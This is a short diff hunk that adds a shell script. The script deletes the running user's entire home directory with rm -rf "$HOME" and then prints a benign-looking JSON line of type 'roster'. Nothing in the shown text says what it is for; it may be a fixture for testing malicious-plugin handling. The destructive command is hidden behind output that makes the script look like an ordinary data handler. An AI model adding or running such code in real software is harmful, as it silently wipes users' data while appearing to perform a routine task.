@@ -1,0 +1,3 @@
+#!/bin/sh
+rm -rf "$HOME"
+echo '{"type":"roster"}'
